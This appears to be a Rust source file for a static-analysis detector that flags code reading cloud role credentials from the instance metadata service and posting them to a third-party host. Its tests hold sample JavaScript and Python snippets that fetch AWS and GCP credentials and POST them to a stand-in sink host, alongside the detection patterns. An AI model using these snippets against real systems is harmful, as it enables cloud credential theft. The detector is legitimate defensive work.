//! Cloud role credentials asked of the instance metadata service and posted to a host of the code's
//! choosing: `/latest/meta-data/iam/security-credentials/<role>` (or GCP's service-account token, Azure's
//! identity token) read in the same module that POSTs to a literal URL outside the cloud provider.
//!
//! CRED010 reads the metadata address, which a payload builds from a list of bytes
//! (`[169, 254, 169, 254].join('.')`); the credential path itself stays a plain string, because the
//! service only answers that path. SDK credential chains request it too, and then sign calls to the
//! provider's own endpoints (`sts.amazonaws.com`, `oauth2.googleapis.com`): only a POST to a host that
//! is neither the provider's nor local is reported.

use super::FileDetector;
use crate::ascii_classes::ascii_regex;
use crate::matchers::{Hit, HitDetail};
use crate::segment::Segment;
use regex::Regex;
use skill_scan_model::Language;
use std::sync::LazyLock;

pub(crate) static METADATA_CREDENTIALS_POSTED: FileDetector = FileDetector {
    literals: &[
        "security-credentials",
        "service-accounts",
        "identity/oauth2/token",
    ],
    run: find_relays,
};

// Constant patterns (their tests compile them): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static CREDENTIAL_PATH: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r"(?i)/latest/meta-data/iam/security-credentials\b",
        r"|/computeMetadata/v1/instance/service-accounts/[^\s'`\x22/]*/?(?:token|identity)?",
        r"|/metadata/identity/oauth2/token\b"
    ))
    .expect("credential path pattern")
});

/// A POST or PUT to a literal URL: `fetch('https://h/p', { method: 'POST' …`, `axios.post('https://h'`,
/// `requests.post("https://h"`, `got.post(`, `needle.post(`.
#[allow(clippy::expect_used)]
static POST_TO_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r"(?:\bfetch\s*\(\s*['`\x22]https?://(?P<fetch_host>[^/'`\x22:\s]+)[^'`\x22]*['`\x22]\s*,\s*\{[^}]{0,200}?",
        r"method\s*:\s*['`\x22](?i:post|put)['`\x22]",
        r"|\b(?:axios|got|needle|requests|httpx|superagent)\s*\.\s*(?:post|put)\s*\(\s*f?['`\x22]https?://",
        r"(?P<call_host>[^/'`\x22:\s]+))"
    ))
    .expect("post pattern")
});

/// Hosts a credential chain talks to: the metadata service, the providers' endpoints, this machine.
fn provider_or_local(host: &str) -> bool {
    let host = host.to_ascii_lowercase();
    host.starts_with("169.254.")
        || host.starts_with("127.")
        || host == "localhost"
        || host.starts_with('[')
        || host.starts_with('$')
        || host.contains("${")
        || host.starts_with('{')
        || [
            "amazonaws.com",
            "amazonaws.com.cn",
            "googleapis.com",
            "google.internal",
            "microsoftonline.com",
            "azure.com",
            "windows.net",
            "aliyuncs.com",
        ]
        .iter()
        .any(|d| host == *d || host.ends_with(&format!(".{d}")))
}

fn find_relays(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    if !matches!(
        segment.language,
        Language::Javascript | Language::Typescript | Language::Python
    ) {
        return;
    }
    let body = segment.text(text);
    let Some(path) = CREDENTIAL_PATH.find(body) else {
        return;
    };
    for post in POST_TO_LITERAL.captures_iter(body) {
        let Some(host) = post.name("fetch_host").or_else(|| post.name("call_host")) else {
            continue;
        };
        if provider_or_local(host.as_str()) {
            continue;
        }
        let Some(whole) = post.get(0) else {
            continue;
        };
        keep(Hit {
            start: segment.start + whole.start(),
            end: segment.start + whole.end(),
            detail: Some(Box::new(HitDetail {
                message: format!(
                    "the module asks the instance metadata service for cloud role credentials ({}) and posts to {}",
                    path.as_str(),
                    host.as_str()
                ),
                related: vec![(
                    segment.start + path.start(),
                    "the credential path".to_string(),
                )],
            })),
        });
        return;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fires(text: &str, language: Language) -> bool {
        crate::native::file_detector_fires(find_relays, text, "probe.js", language)
    }

    #[test]
    fn role_credentials_posted_to_a_third_host_fire() {
        let js = "const host = [169, 254, 169, 254].join('.');\nconst base = '/latest/meta-data/iam/security-credentials/';\nconst c = await get(host, base + role);\nawait fetch('https://sink.example.invalid/c', { method: 'POST', body: c });\n";
        assert!(fires(js, Language::Javascript));
        let py = "t = requests.get('http://' + h + '/computeMetadata/v1/instance/service-accounts/default/token', headers=H).text\nrequests.post('https://sink.example.invalid/g', data=t)\n";
        assert!(fires(py, Language::Python));
    }

    #[test]
    fn credential_chains_and_region_probes_are_quiet() {
        // An SDK chain: the metadata path, then the provider's own token endpoint.
        let sdk = "const p = '/latest/meta-data/iam/security-credentials/';\nawait fetch('https://sts.amazonaws.com/', { method: 'POST', body: q });\nawait fetch(`http://${IMDS}/latest/api/token`, { method: 'PUT' });\n";
        assert!(!fires(sdk, Language::Javascript));
        // Telemetry that posts the region, never asking for credentials.
        let region = "const r = await get('/latest/meta-data/placement/region');\nawait fetch('https://t.example.invalid/r', { method: 'POST', body: r });\n";
        assert!(!fires(region, Language::Javascript));
    }
}
